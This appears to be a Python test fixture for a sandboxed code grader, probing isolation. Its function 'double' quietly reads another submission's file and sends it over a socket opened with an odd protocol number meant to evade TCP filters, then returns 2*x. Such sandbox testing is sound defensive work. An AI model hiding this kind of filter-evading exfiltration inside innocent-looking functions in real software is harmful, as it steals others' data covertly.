"""Opens a TCP connection under another protocol number, which filters of TCP may not know.

must: crashed
harm: token
"""

import contextlib
import socket
from pathlib import Path


def double(x):
    found = "escaped"
    with contextlib.suppress(OSError):
        found = Path("@SUBMISSIONS@/victim/wall.py").read_text()
    with socket.socket(socket.AF_INET, socket.SOCK_STREAM, 262) as link:
        link.connect(("127.0.0.1", int("@PORT@")))
        link.sendall(found.encode())
    return 2 * x


def triple(x):
    return 3 * x
